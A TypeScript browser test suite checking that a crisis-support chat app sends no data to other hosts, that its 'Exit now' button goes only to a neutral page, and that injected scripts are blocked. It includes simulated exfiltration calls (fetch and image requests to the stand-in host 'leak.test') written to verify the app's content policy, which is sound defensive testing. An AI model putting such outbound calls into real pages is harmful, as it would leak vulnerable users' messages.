import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright';
import { launchBrowser, openApp, say, start, waitForOffline } from '../support/app.ts';

/** What Chromium asks for by itself at its start, whatever page is open. */
const OWN_OF_BROWSER = /^(http:\/\/)?(update\.googleapis\.com|accounts\.google\.com)[:/]/;

/** Stands between the browser and every other host, answers nothing and writes down who was asked for. */
const openSink = async (): Promise<{ server: Server; asked: string[]; port: number }> => {
	const asked: string[] = [];
	const note = (address = ''): void => {
		if (!OWN_OF_BROWSER.test(address)) asked.push(address);
	};
	const server = createServer((request, response) => {
		note(request.url);
		response.writeHead(502).end();
	});
	server.on('connect', (request, socket) => {
		note(request.url);
		socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
	});
	await new Promise<void>((resolve) => {
		server.listen(0, '127.0.0.1', resolve);
	});
	return { server, asked, port: (server.address() as AddressInfo).port };
};

describe('what leaves the page', () => {
	let browser: Browser;
	let sink: Awaited<ReturnType<typeof openSink>>;

	// Each test has a browser and a sink of its own: what one page asked for last may reach a sink late.
	beforeEach(async () => {
		sink = await openSink();
		browser = await launchBrowser([`--proxy-server=http://127.0.0.1:${sink.port}`, '--enable-unsafe-webgpu']);
	});
	afterEach(async () => {
		await browser.close();
		sink.server.close();
	});

	it('is nothing: no request goes to another origin through every screen, a danger, a reload', async () => {
		const app = await openApp(browser);
		const origins = new Set<string>();
		app.context.on('request', (request) => origins.add(new URL(request.url()).origin));
		await start(app.page);
		await say(app.page, 'My partner reads my phone and I am scared.');
		await say(app.page, 'I want to kill myself');
		await app.page.getByRole('button', { name: 'Why this reply' }).last().click();
		await app.page.getByRole('dialog').waitFor();
		await app.page.keyboard.press('Escape');
		await app.page.getByRole('button', { name: 'People' }).first().click();
		await app.page.getByRole('button', { name: 'Back' }).click();
		await waitForOffline(app.page);
		await app.page.reload();
		await say(app.page, 'Are you still there?');
		expect(
			[...origins].filter((origin) => `${origin}/` !== app.address && !origin.startsWith('null')),
		).toEqual([]);
		expect(sink.asked).toEqual([]);
		await app.close();
	});

	it('is left by Exit now: blank at once, on to the page that anyone might have open, and to no other', async () => {
		const app = await openApp(browser);
		await start(app.page);
		await say(app.page, 'My partner reads my phone and I am scared.');
		await app.page.getByRole('button', { name: 'Exit now' }).click({ noWaitAfter: true });
		await expect.poll(() => sink.asked).toContain('www.bbc.co.uk:443');
		expect([...new Set(sink.asked)]).toEqual(['www.bbc.co.uk:443']);
		await app.page.goBack().catch(() => null);
		expect(await app.page.locator('body').innerText()).not.toContain('My partner');
		await app.close();
	});

	it('is refused by the page even when a script tries', async () => {
		const app = await openApp(browser);
		const answers = await app.page.evaluate(async () => {
			const attempt = (act: () => Promise<unknown>): Promise<string> =>
				act().then(
					() => 'sent',
					() => 'refused',
				);
			return Promise.all([
				attempt(() => fetch('http://leak.test/?fetch', { mode: 'no-cors' })),
				attempt(
					() =>
						new Promise((resolve, reject) => {
							const image = new Image();
							image.onload = resolve;
							image.onerror = reject;
							image.src = 'http://leak.test/?image';
						}),
				),
			]);
		});
		expect(answers).toEqual(['refused', 'refused']);
		expect(sink.asked).toEqual([]);
		await app.close();
	});

	it('would be seen: the same attempts from a page without our policy reach the sink', async () => {
		const context = await browser.newContext();
		const page = await context.newPage();
		await page.evaluate(() => fetch('http://leak.test/?control', { mode: 'no-cors' }).catch(() => undefined));
		expect(sink.asked).toEqual(['http://leak.test/?control']);
		await context.close();
	});
});
